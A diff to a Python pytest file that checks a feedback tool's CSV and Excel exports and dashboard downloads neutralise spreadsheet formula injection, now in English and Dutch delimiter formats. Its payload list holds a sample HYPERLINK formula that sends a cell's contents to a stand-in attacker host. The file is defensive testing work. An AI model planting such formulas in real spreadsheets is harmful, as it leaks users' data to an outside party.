@@ -14,17 +14,21 @@ import re
 from datetime import UTC, datetime
 from pathlib import Path
 
+import pandas as pd
 import pytest
 from markdown_it import MarkdownIt
 from openpyxl import load_workbook
 from typer.testing import CliRunner
 
 from analysis.safe_tables import FORMULA_PREFIXES, frame_csv_bytes, md_text, safe_cell
+from dashboard import downloads
 from klantstem_cli import app
 from workspace.db import Workspace
 from workspace.imports import import_bytes
+from workspace.search import keyword_search
 from workspace.summary import render_summary, weekly_summary
-from workspace.theme_queries import theme_quotes, theme_table
+from workspace.theme_queries import theme_quotes
+from workspace.trends import theme_table_with_trends
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
@@ -81,10 +85,11 @@ def _live_cells(cells: list[object]) -> list[object]:
     return [c for c in cells if isinstance(c, str) and c.lstrip(" ").startswith(FORMULA_PREFIXES)]
 
 
-def _csv_cells(data: bytes) -> list[object]:
+def _csv_cells(data: bytes, delimiter: str | None = None) -> list[object]:
     text = data.decode("utf-8-sig")
-    dialect = csv.Sniffer().sniff(text[:2000], delimiters=",;")
-    return [cell for row in csv.reader(io.StringIO(text), dialect) for cell in row]
+    if delimiter is None:
+        delimiter = csv.Sniffer().sniff(text[:2000], delimiters=",;").delimiter
+    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
 
 
 def _xlsx_cells(data: bytes) -> list[object]:
@@ -111,11 +116,20 @@ def test_export_items_csv_and_xlsx_have_no_live_cells(payload_workspace, tmp_pat
         ), "numbers stay numbers in the workbook"
 
 
-def test_dashboard_downloads_have_no_live_cells(payload_workspace):
+@pytest.mark.parametrize("lang", [pytest.param("en", id="en"), pytest.param("nl", id="nl")])
+def test_dashboard_downloads_have_no_live_cells(payload_workspace, lang):
     with Workspace.open(payload_workspace) as ws:
-        frames = [theme_quotes(ws, 1, limit=50), theme_table(ws, lang="en")]
-    for frame in frames:
-        _assert_inert_table(_csv_cells(frame_csv_bytes(frame)))
+        files = [
+            downloads.quotes_csv(theme_quotes(ws, 1, limit=50), lang),
+            downloads.themes_csv(theme_table_with_trends(ws, lang=lang), lang),
+            downloads.search_csv(keyword_search(ws, "=", lang=lang, limit=50), lang),
+        ]
+    for data in files:
+        _assert_inert_table(_csv_cells(data, ";" if lang == "nl" else ","))
+
+
+def test_item_export_keeps_its_machine_format():
+    assert frame_csv_bytes(pd.DataFrame({"n": [1.5], "t": ["=x"]})) == b"n,t\n1.5,'=x\n"
 
 
 def test_every_dashboard_download_goes_through_the_safe_writer():
